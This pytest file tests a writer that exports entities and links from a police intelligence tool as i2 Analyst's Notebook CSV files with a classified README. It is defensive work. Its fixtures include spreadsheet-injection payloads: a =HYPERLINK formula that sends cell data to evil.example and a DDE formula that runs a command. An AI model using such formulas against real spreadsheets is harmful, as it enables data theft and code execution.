"""The i2 Analyst's Notebook writer: one file per entity type and per pair of link-end types, cells that
no spreadsheet runs and that never break a line, a README with the marking at top and bottom."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest

from sochub.engine.charts import I2Entity, I2Link, i2_strength, write_i2_zip
from sochub.engine.charts.i2 import clean_cell, i2_files

WHEN = datetime(2026, 3, 4, 9, 30, tzinfo=UTC)
HOSTILE_NAME = '=HYPERLINK("https://evil.example/?"&A2, "click")'


def _people() -> tuple[list[I2Entity], list[I2Link]]:
    entities = [
        I2Entity(
            "SOCHUB-N-1",
            "Person",
            HOSTILE_NAME,
            (("date_of_birth", "1985-03-14"), ("warning_markers", "Firearms; Violence")),
        ),
        I2Entity("SOCHUB-N-2", "Person", 'Mary "Moll" Jones, née Ó Súilleabháin\nsecond line', ()),
        I2Entity("SOCHUB-OCG-OCG000001", "Organisation", "+Crew @home", (("urn", "OCG000001"),)),
        I2Entity("SOCHUB-VRM-AB12CDE", "Vehicle", "AB12CDE", (("make", "-1+SUM(A1)"),)),
    ]
    links = [
        I2Link("SOCHUB-N-1", "SOCHUB-N-2", "Criminal associate", 3, date=date(2025, 1, 2), source="CHIS\r\nreport"),
        # Given organisation first: the writer puts the person at end 1.
        I2Link("SOCHUB-OCG-OCG000001", "SOCHUB-N-1", "OCG member", 2, label="OCG member (principal)"),
        I2Link("SOCHUB-N-2", "SOCHUB-VRM-AB12CDE", "Uses vehicle", 1, recorded_by="@GMP"),
    ]
    return entities, links


def _zip() -> zipfile.ZipFile:
    entities, links = _people()
    data = write_i2_zip(
        entities=entities,
        links=links,
        classification="OFFICIAL-SENSITIVE",
        title="network of =cmd|' /C calc'!A0",
        produced_by="Jane Analyst (Greater Manchester Police)",
        produced_at=WHEN,
        purpose="Operation Juniper:\nbriefing",
        handling="Need to know only.",
    )
    return zipfile.ZipFile(io.BytesIO(data))


def _rows(archive: zipfile.ZipFile, name: str) -> list[list[str]]:
    raw = archive.read(name)
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte order mark, for Windows tools"
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_one_file_per_entity_type_and_per_pair_of_end_types_with_a_readme() -> None:
    archive = _zip()
    assert archive.namelist() == [
        "README.txt",
        "entities-person.csv",
        "entities-organisation.csv",
        "entities-vehicle.csv",
        "links-person-person.csv",
        "links-person-organisation.csv",
        "links-person-vehicle.csv",
    ]
    assert archive.comment == b"OFFICIAL-SENSITIVE"


def test_entity_rows_carry_identity_label_type_marking_and_attributes() -> None:
    rows = _rows(_zip(), "entities-person.csv")
    assert rows[0] == [
        "identity",
        "label",
        "entity_type",
        "classification",
        "date_of_birth",
        "warning_markers",
    ]
    assert rows[1][0] == "SOCHUB-N-1" and rows[1][2:] == [
        "Person",
        "OFFICIAL-SENSITIVE",
        "1985-03-14",
        "Firearms; Violence",
    ]
    # An entity without an attribute gets empty cells, never a shorter row.
    assert rows[2][0] == "SOCHUB-N-2" and rows[2][4:] == ["", ""]


def test_formulas_are_neutralised_in_every_file() -> None:
    archive = _zip()
    person = _rows(archive, "entities-person.csv")
    assert person[1][1] == "'" + HOSTILE_NAME
    assert _rows(archive, "entities-organisation.csv")[1][1] == "'+Crew @home"
    assert _rows(archive, "entities-vehicle.csv")[1][4] == "'-1+SUM(A1)"
    vehicle_link = _rows(archive, "links-person-vehicle.csv")[1]
    assert vehicle_link[13] == "'@GMP"
    for name in archive.namelist():
        if name.endswith(".csv"):
            for row in _rows(archive, name):
                for cell in row:
                    assert cell[:1] not in ("=", "+", "-", "@"), (name, cell)


def test_no_value_breaks_a_line_and_quotes_commas_and_unicode_survive() -> None:
    archive = _zip()
    for name in archive.namelist():
        text = archive.read(name).decode("utf-8-sig")
        lines = text.split("\r\n")
        assert all("\n" not in line and "\r" not in line for line in lines), name
    jones = _rows(archive, "entities-person.csv")[2][1]
    assert jones == 'Mary "Moll" Jones, née Ó Súilleabháin second line'
    link = _rows(archive, "links-person-person.csv")[1]
    assert link[12] == "CHIS report"


def test_links_name_both_ends_with_strength_in_the_templates_words() -> None:
    archive = _zip()
    header, *rows = _rows(archive, "links-person-organisation.csv")
    row = dict(zip(header, rows[0], strict=True))
    assert row["entity1_identity"] == "SOCHUB-N-1" and row["entity1_type"] == "Person"
    assert row["entity2_identity"] == "SOCHUB-OCG-OCG000001" and row["entity2_type"] == "Organisation"
    assert (row["link_type"], row["link_label"]) == ("OCG member", "OCG member (principal)")
    assert (row["strength"], row["strength_code"], row["strength_level"]) == ("Unconfirmed", "1", "2")
    header, *rows = _rows(archive, "links-person-person.csv")
    row = dict(zip(header, rows[0], strict=True))
    assert (row["strength"], row["date"]) == ("Confirmed", "2025-01-02")
    assert i2_strength(1) == ("Tentative", "2")


def test_the_readme_is_marked_at_top_and_bottom_and_explains_the_import() -> None:
    text = _zip().read("README.txt").decode("utf-8-sig")
    lines = text.strip().split("\r\n")
    assert lines[0] == "OFFICIAL-SENSITIVE" and lines[-1] == "OFFICIAL-SENSITIVE"
    assert "Purpose: Operation Juniper: briefing" in text
    assert "Jane Analyst (Greater Manchester Police)" in text
    assert "links-person-vehicle.csv" in text and "1 row" in text
    assert "strength_code:" in text and "Import the entity files first" in text
    assert "not been" in text and ".ximp" in text  # says honestly what is untested


def test_same_input_same_bytes() -> None:
    entities, links = _people()
    kwargs = {
        "classification": "OFFICIAL",
        "title": "t",
        "produced_by": "me",
        "produced_at": WHEN,
        "purpose": "p",
        "handling": "h",
    }
    assert write_i2_zip(entities=entities, links=links, **kwargs) == write_i2_zip(
        entities=entities, links=links, **kwargs
    )


def test_bad_input_is_refused() -> None:
    entities, _ = _people()
    with pytest.raises(ValueError, match="identity"):
        i2_files(entities=[*entities, entities[0]], links=[], classification="OFFICIAL")
    with pytest.raises(ValueError, match="not in the export"):
        i2_files(entities=entities, links=[I2Link("SOCHUB-N-1", "SOCHUB-N-9", "x")], classification="OFFICIAL")


@pytest.mark.parametrize(
    ("raw", "written"),
    [
        ("plain", "plain"),
        ("-5", "-5"),
        ("+44 7700 900123", "+44 7700 900123"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'=1+1"),
        ("a\x00b\x07c", "abc"),
        ("line\u2028sep", "line sep"),
        (None, ""),
    ],
)
def test_clean_cell(raw: str | None, written: str) -> None:
    assert clean_cell(raw) == written
